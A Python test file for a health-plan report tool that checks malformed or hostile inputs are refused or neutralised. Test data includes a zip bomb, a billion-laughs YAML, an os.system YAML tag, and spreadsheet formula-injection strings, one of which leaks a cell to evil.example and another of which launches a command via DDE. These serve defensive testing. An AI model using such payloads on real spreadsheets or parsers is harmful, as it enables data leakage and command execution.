"""Hostile inputs, as real files: spreadsheets and YAML that lie, outputs that could attack,
codes that collide. Each refusal is asserted word for word through `stpreport validate` (exit
1, no traceback); the build-level ones also leave an existing edition byte-for-byte unchanged.
"""

from __future__ import annotations

import csv
import io
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from helpers import copy_figures, read_rows, write_figures, write_rows
from openpyxl import load_workbook

from stpreport.analysis import analyse
from stpreport.assumptions import default_assumptions_path, load_assumptions
from stpreport.cells import neutralise, restore
from stpreport.cli import main
from stpreport.inputs import bundled_figures_path, load_figures
from stpreport.pipeline.outputs import snapshot_files, summary_files
from stpreport.template import write_template

CODES = ["E54000008", "E54000031"]
DEFAULT_YAML = default_assumptions_path().read_text(encoding="utf-8")

SNAPSHOT = "figures"


def validate(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["validate", *args])
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    return result.exit_code, result.output


def refused(figures: Path | None = None, params: Path | None = None) -> list[str]:
    """The problem lines `validate` prints for refused inputs (asserting exit 1)."""
    args = (["--figures", str(figures)] if figures else []) + (
        ["--params", str(params)] if params else []
    )
    code, output = validate(*args)
    assert code == 1, output
    return output.splitlines()[:-1]  # the last line counts the problems


def _tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


@pytest.fixture
def reports(tmp_path) -> Path:
    """An output folder that already holds an edition, which a refused build must not touch."""
    folder = tmp_path / "reports" / "ed1"
    folder.mkdir(parents=True)
    (folder / "E54000008.html").write_text("<html>last good pack</html>")
    (folder / "manifest.json").write_text("{}")
    return tmp_path / "reports"


def assert_build_refused(reports: Path, expected: str, *args: str) -> None:
    before = _tree(reports)
    result = CliRunner().invoke(main, ["build", *args, "--out", str(reports), "--edition", "ed1"])
    assert result.exit_code == 1, result.output
    assert expected in result.output and "Nothing was built" in result.output, result.output
    assert "Traceback" not in result.output
    assert _tree(reports) == before


# -- spreadsheets that cannot lie ------------------------------------------------------------
@pytest.fixture
def book(tmp_path) -> Path:
    """The figures of two footprints as a filled workbook."""
    path = tmp_path / "figures.xlsx"
    write_template(path, load_figures(copy_figures(tmp_path / "src", CODES)))
    return path


def _format_cell(path: Path, sheet: str, ref: str, value: float, number_format: str) -> None:
    wb = load_workbook(path)
    wb[sheet][ref] = value
    wb[sheet][ref].number_format = number_format
    wb.save(path)


def test_a_percent_formatted_growth_is_read_as_the_percentage_it_shows(book):
    _format_cell(book, "contracts", "D2", 0.035, "0.0%")  # plan_growth, shows 3.5%
    _format_cell(book, "contracts", "E2", -0.02, "0%")  # contract_growth, shows -2%
    _format_cell(book, "contracts", "D3", 4.5, '0.0"%"')  # a literal %: shows 4.5%, is 4.5
    _format_cell(book, "schemes", "F2", 0.5, "0%")  # share_2017_18 (0-1): 50% is 0.5
    assert validate("--figures", str(book))[0] == 0
    figures = load_figures(book)
    assert figures.contracts.loc[0, ["plan_growth", "contract_growth"]].tolist() == [3.5, -2.0]
    assert figures.contracts.loc[1, "plan_growth"] == 4.5
    assert figures.schemes.loc[0, "share_2017_18"] == 0.5


def test_a_percent_formatted_money_cell_is_refused(book, reports):
    _format_cell(book, "schemes", "E2", 0.12, "0%")  # planned_saving, in £m
    expected = (
        "figures.xlsx sheet schemes row 2, column planned_saving: '12%' is formatted as a "
        "percentage in Excel, but the column is in £m: remove the % format and enter the "
        "figure itself"
    )
    assert refused(book) == [expected]
    assert_build_refused(reports, expected, "--figures", str(book))


def _rewrite_zip(path: Path, replace: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path) as source:
        items = {name: source.read(name) for name in source.namelist()}
    items.update(replace)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in items.items():
            target.writestr(name, data)


def test_a_zip_bomb_is_refused_from_the_zip_directory(book, reports):
    block = bytes(1_000_000)
    with (
        zipfile.ZipFile(book, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("xl/media/padding.bin", "w", force_zip64=True) as member,
    ):
        for _ in range(210):  # 210 MB of zeros, about 1 MB on disk
            member.write(block)
    assert book.stat().st_size < 2_000_000
    with zipfile.ZipFile(book) as archive:
        unzipped = sum(info.file_size for info in archive.infolist()) / 1e6
    assert 210 < unzipped < 211
    expected = (
        f"figures.xlsx: unzips to {unzipped:.1f} MB; at most 200.0 MB is accepted (a zip bomb, "
        "or not a figures workbook?)"
    )
    assert refused(book) == [expected]
    assert_build_refused(reports, expected, "--figures", str(book))


def test_a_workbook_too_large_on_disk_is_refused(tmp_path, monkeypatch):
    import stpreport.readers

    path = tmp_path / "figures.xlsx"
    write_template(path)
    monkeypatch.setattr(stpreport.readers, "MAX_FILE_BYTES", 1_000)
    problems = []
    stpreport.readers.read_tables(path, problems)
    size = path.stat().st_size / 1e6
    assert [str(p) for p in problems] == [
        f"figures.xlsx: is {size:,.1f} MB; at most 0.0 MB is accepted (is this the right file?)"
    ]


def _sheet_xml(rows: int, dimension: str) -> bytes:
    cells = "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(1, rows + 1))
    return (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats'
        f'.org/spreadsheetml/2006/main"><dimension ref="{dimension}"/><sheetData>{cells}'
        "</sheetData></worksheet>"
    ).encode()


def test_a_false_dimension_does_not_hide_rows(book, reports):
    # sheet2 is schemes: 100,002 real rows behind a <dimension> that claims two.
    _rewrite_zip(book, {"xl/worksheets/sheet2.xml": _sheet_xml(100_002, "A1:O2")})
    expected = (
        "figures.xlsx sheet schemes: has more than 100,001 rows; at most 100,000 are accepted "
        "(is this the right file?)"
    )
    assert refused(book) == [expected]
    assert_build_refused(reports, expected, "--figures", str(book))


@pytest.mark.parametrize(
    ("part", "data", "reason"),
    [
        (
            "xl/worksheets/sheet2.xml",
            b"<<<not xml",
            "not well-formed (invalid token): line 1, column 1",
        ),
        ("xl/styles.xml", b"<x", "unclosed token: line 1, column 0"),
    ],
)
def test_a_damaged_workbook_is_refused_without_a_traceback(book, part, data, reason):
    _rewrite_zip(book, {part: data})
    assert refused(book) == [f"figures.xlsx: is not a readable Excel workbook ({reason})"]


def test_a_workbook_with_too_many_cells_is_refused(book, monkeypatch):
    import stpreport.readers

    monkeypatch.setattr(stpreport.readers, "MAX_CELLS", 100)
    assert refused(book) == [
        "figures.xlsx: has more than 100 cells; at most that many are accepted (is this the "
        "right file?)"
    ]


def test_a_cr_only_csv_does_not_escape_the_row_limit(tmp_path, reports):
    figures = copy_figures(tmp_path / "figures", CODES)
    path = figures / "schemes.csv"
    header = path.read_text(encoding="utf-8").split("\n", 1)[0]
    line = "E54000008,X,name,other,1,,,,0,0,not_needed,supported,strong,strong,bottom_up\r"
    path.write_bytes((header + "\r" + line * 100_001).encode())
    expected = (
        "schemes.csv: has 100,002 rows; at most 100,000 are accepted (is this the right file?)"
    )
    assert refused(figures) == [expected]
    assert_build_refused(reports, expected, "--figures", str(figures))


def test_a_cr_only_csv_within_the_limit_reads_as_rows(tmp_path):
    figures = copy_figures(tmp_path / "figures", CODES)
    for name in ("footprints", "schemes", "contracts", "sources"):
        path = figures / f"{name}.csv"
        path.write_bytes(path.read_bytes().replace(b"\n", b"\r"))
    assert validate("--figures", str(figures))[0] == 0


def test_20000_schemes_are_refused_with_the_limit(tmp_path, reports):
    figures = copy_figures(tmp_path / "figures", CODES)
    rows = read_rows(figures / "schemes.csv")
    many = [rows[0] | {"scheme_id": f"X{i}"} for i in range(20_000)]
    write_rows(figures / "schemes.csv", many)
    expected = (
        "schemes.csv row 202, column footprint: 'E54000008' is the footprint's scheme number "
        "201; at most 200 schemes a footprint are accepted (the analysis is sized for real "
        "plans, which have 8 to 25)"
    )
    assert expected in refused(figures)  # each footprint's Monte Carlo stays bounded
    assert_build_refused(reports, expected, "--figures", str(figures))


def test_more_than_200_schemes_in_one_footprint_are_refused(tmp_path):
    schemes = [{"scheme_id": f"S{i}"} for i in range(201)]
    figures = write_figures(tmp_path / "figures", [{}], schemes)
    assert refused(figures) == [
        "schemes.csv row 202, column footprint: 'T1' is the footprint's scheme number 201; at "
        "most 200 schemes a footprint are accepted (the analysis is sized for real plans, which "
        "have 8 to 25)"
    ]


# -- YAML that cannot lie --------------------------------------------------------------------
def _params(tmp_path: Path, old: str, new: str) -> Path:
    assert old in DEFAULT_YAML, old
    path = tmp_path / "params.yaml"
    path.write_text(DEFAULT_YAML.replace(old, new, 1), encoding="utf-8")
    return path


def _line(old: str) -> int:
    return DEFAULT_YAML[: DEFAULT_YAML.index(old)].count("\n") + 1


DRAWS = "draws: {value: 10000,"
FUNDING = '{"2017/18": 0.013'
YAML_CASES = {
    "octal-looking number is decimal": (DRAWS, "draws: {value: 010000,", None),
    "yes is not a boolean": (
        "national_agreement: true",
        "national_agreement: yes",
        "params.yaml key reprioritisation.levers[0].national_agreement: 'yes' must be true or "
        "false",
    ),
    "NaN": (
        "value: 0.70\n",
        "value: .nan\n",
        "params.yaml key deliverability.base_rate.provider_efficiency: '.nan' must be a finite "
        "number",
    ),
    "infinite draws": (
        DRAWS,
        "draws: {value: .inf,",
        "params.yaml key monte_carlo.draws: '.inf' must be a finite number",
    ),
    "negative draws": (
        DRAWS,
        "draws: {value: -5,",
        "params.yaml key monte_carlo.draws: '-5' must be between 100 and 1e+06",
    ),
    "threshold of 1.5": (
        "apple_threshold:\n    value: 0.5",
        "apple_threshold:\n    value: 1.5",
        "params.yaml key deliverability.apple_threshold: '1.5' must be between 0 and 1",
    ),
    "rating threshold of 1.5": (
        "min_coverage: 0.9}",
        "min_coverage: 1.5}",
        "params.yaml key ratings[0]: '{max_gap_share: 0.03, min_coverage: 1.5, rating: "
        "credible}' max_gap_share must be a share between -1 and 1 and min_coverage between 0 "
        "and 1 (or null)",
    ),
    "probability as text": (
        "value: 0.70\n",
        "value: '0.7'\n",
        "params.yaml key deliverability.base_rate.provider_efficiency: '0.7' must be a number",
    ),
    "a list where a word is expected": (
        "id: relax_rtt",
        "id: [relax_rtt]",
        "params.yaml key reprioritisation.levers[0].id: '[relax_rtt]' must be a unique "
        "non-empty text",
    ),
    "a list of lists for categories": (
        "      demand_management: probability\n",
        "      demand_management: [[1]]\n",
        "params.yaml key deliverability.measure: must give, for each scheme category, one of "
        "share, probability",
    ),
    "a number where a mapping is expected": (
        "  clinical_support:\n    strong:",
        "  clinical_support: 5\n  clinical_supportx:\n    strong:",
        "params.yaml key deliverability.clinical_support: must be a mapping of strong, mixed, weak",
    ),
    "missing date": (
        'as_at:\n    value: "2017-04-01"',
        'as_of:\n    value: "2017-04-01"',
        "params.yaml key analysis.as_at: is missing",
    ),
    "a key that is not text": (
        FUNDING,
        "{2017: 0.013",
        f"params.yaml row {_line(FUNDING)}: has a key '2017' that is not text; "
        "keys must be text (put it in quotes)",
    ),
    "a python tag": (
        DRAWS,
        "draws: {value: !!python/object/apply:os.system [echo], ",
        f"params.yaml row {_line(DRAWS)}: uses the tag !!python/object/apply:os.system; only "
        "text, numbers, true/false, null, lists and mappings are accepted",
    ),
}


@pytest.mark.parametrize("case", sorted(YAML_CASES), ids=sorted(YAML_CASES))
def test_yaml_that_would_lie_is_refused_by_key_path(case, tmp_path):
    old, new, expected = YAML_CASES[case]
    path = _params(tmp_path, old, new)
    if expected is None:
        assert validate("--params", str(path))[0] == 0
        assert load_assumptions(path).draws == 10_000
        return
    assert refused(params=path) == [expected]


def test_a_duplicate_key_is_refused_with_its_line(tmp_path, reports):
    path = tmp_path / "params.yaml"
    path.write_text(DEFAULT_YAML + "\nratings:\n  value: []\n", encoding="utf-8")
    last = DEFAULT_YAML.count("\n") + 2
    expected = (
        f"params.yaml row {last}: repeats the key 'ratings' (first on line "
        f"{_line('ratings:')}); each key may appear once"
    )
    assert refused(params=path) == [expected]
    assert_build_refused(reports, expected, "--params", str(path))


def test_billion_laughs_is_refused_at_the_first_anchor(tmp_path):
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [
        f"{c}: &{c} [*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p}]"
        for p, c in zip("abcdefgh", "bcdefghi", strict=True)
    ]
    path = tmp_path / "params.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    assert refused(params=path) == [
        "params.yaml row 1: sets the anchor &a; anchors and aliases are not accepted: write the "
        "value out"
    ]


def test_deep_nesting_and_size_are_bounded(tmp_path):
    path = tmp_path / "params.yaml"
    path.write_text("a: " + "[" * 5_000 + "]" * 5_000 + "\n", encoding="utf-8")
    assert refused(params=path) == ["params.yaml row 1: nests deeper than 32 levels"]
    path.write_text("# padding\n" * 200_000, encoding="utf-8")
    assert refused(params=path) == [
        "params.yaml: is larger than 1,000,000 bytes; an assumptions file is a few kilobytes "
        "(is this the right file?)"
    ]


def test_a_params_folder_and_a_missing_file_are_clean_messages(tmp_path):
    assert refused(params=tmp_path) == [
        f"{tmp_path}: is a folder; give the assumptions file (.yaml) itself"
    ]
    assert refused(params=tmp_path / "none.yaml") == [f"{tmp_path / 'none.yaml'}: does not exist"]


def test_a_missing_value_never_prints_the_sentinel(tmp_path):
    path = _params(tmp_path, 'as_at:\n    value: "2017-04-01"', 'as_of:\n    value: "2017-04-01"')
    lines = refused(params=path)
    assert not any("object at 0x" in line for line in lines), lines


# -- outputs that cannot attack --------------------------------------------------------------
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd",
    "'=already quoted",
    "''two quotes",
    "'plain apostrophe",
    "first line\n=second",
]


def test_neutralise_is_the_owasp_rule_and_restore_undoes_it():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("\t=1") == "'\t=1" and neutralise("\r=1") == "'\r=1"
    assert neutralise("'=1") == "''=1" and neutralise("'plain") == "'plain"
    assert neutralise("Leeds") == "Leeds" and neutralise("") == ""
    for text in [*HOSTILE_NAMES, "'", "''", "'\t", "plain", "-", "="]:
        assert restore(neutralise(text)) == text
        assert not neutralise(text).startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.fixture
def hostile_figures(tmp_path) -> Path:
    schemes = [{"scheme_id": f"T1-{i}", "name": name} for i, name in enumerate(HOSTILE_NAMES)]
    return write_figures(
        tmp_path / "figures",
        [{"name": "=1+1", "region": "@North"}],
        schemes,
    )


def _write_files(folder: Path, files: dict[str, bytes]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (folder / name).write_bytes(data)


def test_formula_text_is_neutralised_in_summary_and_snapshot_and_reads_back(
    hostile_figures, tmp_path
):
    figures = load_figures(hostile_figures)
    assert figures.schemes["name"].tolist()[:4] == HOSTILE_NAMES[:4]
    assert figures.schemes["name"].tolist()[4:7] == [
        "=already quoted",
        "'two quotes",
        "'plain apostrophe",
    ]
    out = tmp_path / "out"
    _write_files(out, summary_files(analyse(figures, load_assumptions()), "2017-03-31"))
    _write_files(out / SNAPSHOT, snapshot_files(figures))

    with (out / "summary.csv").open(encoding="utf-8", newline="") as fh:
        summary = list(csv.DictReader(fh))
    assert (summary[0]["name"], summary[0]["region"]) == ("'=1+1", "'@North")
    book = load_workbook(out / "summary.xlsx")
    cells = [c for row in book["summary"].iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    header = [c.value for c in book["summary"][1]]
    row = {h: c for h, c in zip(header, book["summary"][2], strict=True)}
    assert (row["name"].value, row["name"].data_type) == ("'=1+1", "s")
    assert row["p_balance"].data_type == "n"
    assert not book["summary"]._hyperlinks  # text that looks like a URL stays text
    assert book.properties.created.date().isoformat() == "2017-03-31"  # the build date

    with (out / SNAPSHOT / "schemes.csv").open(encoding="utf-8", newline="") as fh:
        written = [r["name"] for r in csv.DictReader(fh)]
    assert written == [neutralise(n) for n in figures.schemes["name"]]
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in written)
    again = load_figures(out / SNAPSHOT)  # what the next edition's "what changed" reads
    for name in ("footprints", "schemes", "contracts"):
        pd.testing.assert_frame_equal(getattr(again, name), getattr(figures, name))


def test_formula_text_is_neutralised_in_the_template_and_validates_back(hostile_figures, tmp_path):
    figures = load_figures(hostile_figures)
    path = tmp_path / "filled.xlsx"
    write_template(path, figures)
    book = load_workbook(path)
    names = [row[2] for row in book["schemes"].iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in names)
    assert [c.value for c in names] == [neutralise(n) for n in figures.schemes["name"]]
    assert book["footprints"]["B2"].value == "'=1+1"
    assert validate("--figures", str(path))[0] == 0
    again = load_figures(path)
    for name in ("footprints", "schemes", "contracts"):
        pd.testing.assert_frame_equal(getattr(again, name), getattr(figures, name))


def test_the_summary_workbook_is_the_same_bytes_for_the_same_analysis_and_text_stays_text():
    figures = load_figures(bundled_figures_path())
    figures.footprints.loc[0, "name"] = "https://evil.example/x"
    figures.footprints.loc[1, "name"] = "12345"
    result = analyse(figures, load_assumptions())
    first = summary_files(result, "2017-03-31")["summary.xlsx"]
    time.sleep(1.1)  # a second later: a time stamp in the file would show
    assert summary_files(result, "2017-03-31")["summary.xlsx"] == first
    assert summary_files(result, "2017-04-01")["summary.xlsx"] != first
    book = load_workbook(io.BytesIO(first))
    cells = [c for row in book["summary"].iter_rows() for c in row]
    assert not book["summary"]._hyperlinks
    assert all(c.data_type != "f" for c in cells)
    names = [c.value for c in book["summary"]["B"]][1:3]
    assert names == ["https://evil.example/x", "12345"]
    assert {c.data_type for c in book["summary"]["B"]} == {"s"}


def test_pandas_reads_the_neutralised_summary_as_text(hostile_figures, tmp_path):
    figures = load_figures(hostile_figures)
    _write_files(tmp_path, summary_files(analyse(figures, load_assumptions()), "2017-03-31"))
    frame = pd.read_csv(io.StringIO((tmp_path / "summary.csv").read_text(encoding="utf-8")))
    assert frame.loc[0, "name"] == "'=1+1"
    assert restore(frame.loc[0, "name"]) == "=1+1"


# -- names -----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "code", ["national", "Index", "SUMMARY", "manifest", "figures", "scenarios"]
)
def test_a_footprint_code_reserved_by_the_edition_is_refused(code, tmp_path, reports):
    figures = write_figures(tmp_path / "figures", [{"code": code}], [{"footprint": code}])
    expected = (
        f"footprints.csv row 2, column code: '{code}' is a name the edition folder uses for its "
        "own files (national, index, summary, manifest, figures, scenarios, in any case); choose "
        "another code"
    )
    assert refused(figures) == [expected]
    if code == "national":
        assert_build_refused(reports, expected, "--figures", str(figures))


def test_windows_device_names_and_codes_differing_in_case_are_refused(tmp_path):
    footprints = [{"code": "CON"}, {"code": "T1"}, {"code": "t1"}]
    figures = write_figures(tmp_path / "figures", footprints, [{}])
    assert refused(figures) == [
        "footprints.csv row 2, column code: 'CON' is a device name Windows reserves (CON, PRN, "
        "AUX, NUL, COM1-9, LPT1-9): its pack could not be copied to a Windows share; choose "
        "another code",
        "footprints.csv row 4, column code: 't1' differs from 'T1' (row 3) only in case: both "
        "would be one file on many disks",
    ]


def test_a_code_that_is_not_a_safe_file_name_is_refused(tmp_path):
    figures = write_figures(tmp_path / "figures", [{"code": ".hidden"}], [{"footprint": "T1"}])
    assert refused(figures)[0] == (
        "footprints.csv row 2, column code: '.hidden' must be a code of letters, digits, '_', "
        "'.' or '-' (at most 32, no spaces or slashes)"
    )


@pytest.mark.parametrize("char", ["\x07", "\x1b", "\x85", "\x9b"])
def test_control_characters_in_text_are_refused(char, tmp_path):
    figures = write_figures(tmp_path / "figures", [{"name": f"Test{char}shire"}], [{}])
    assert refused(figures) == [
        f"footprints.csv row 2, column name: {f'Test{char}shire'!r} contains a control character"
    ]


def test_tabs_and_line_breaks_inside_text_are_kept_carriage_returns_refused(tmp_path):
    figures = write_figures(tmp_path / "figures", [{"name": "Test\tshire\nNorth"}], [{}])
    assert validate("--figures", str(figures))[0] == 0
    assert load_figures(figures).footprints.loc[0, "name"] == "Test\tshire\nNorth"
    figures = write_figures(tmp_path / "figures", [{"name": "Test\r\nNorth"}], [{}])
    assert refused(figures) == [
        "footprints.csv row 2, column name: 'Test\\r\\nNorth' contains a carriage return (CR): "
        "use a plain line break inside a cell"
    ]


def test_the_small_figures_these_cases_break_are_valid(tmp_path):
    assert validate("--figures", str(write_figures(tmp_path / "f", [{}], [{}])))[0] == 0
